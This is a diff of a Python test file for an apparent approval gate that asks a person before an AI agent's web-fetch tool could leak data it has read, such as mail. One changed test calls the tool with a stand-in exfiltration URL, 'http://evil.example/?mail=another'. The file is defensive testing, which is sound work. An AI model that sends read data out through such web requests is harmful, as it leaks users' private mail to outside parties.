@@ -294,11 +294,13 @@ async def test_nothing_is_carried_away_after_mail_was_read(web: dict[str, bool])
         assert office.person.questions[-1].flow
 
 
-async def test_pages_alone_may_be_read_one_after_another() -> None:
+async def test_a_page_may_be_read_again_and_another_address_asks() -> None:
     office = Office()
     await office.task(PAGE)
 
-    assert await office.task(PAGE, STEAL, PAGE) == []
+    assert await office.task(PAGE, PAGE) == []
+    assert await office.task(PAGE, STEAL, PAGE, STEAL) == ["office__get_webpage"]
+    assert "could send it to someone else" in office.person.questions[-1].reasons[0]
 
 
 async def test_what_one_server_told_is_not_told_to_another_one_unasked() -> None:
@@ -331,7 +333,7 @@ async def test_lifting_it_for_a_turn_ends_with_the_turn() -> None:
     assert len(office.person.questions) == 1
 
     office.gate.end_turn(chat)
-    await office.gate.check(office.tools.call(STEAL[0], chat, **STEAL[1]))
+    await office.gate.check(office.tools.call(STEAL[0], chat, url="http://evil.example/?mail=another"))
 
     assert len(office.person.questions) == 2
 
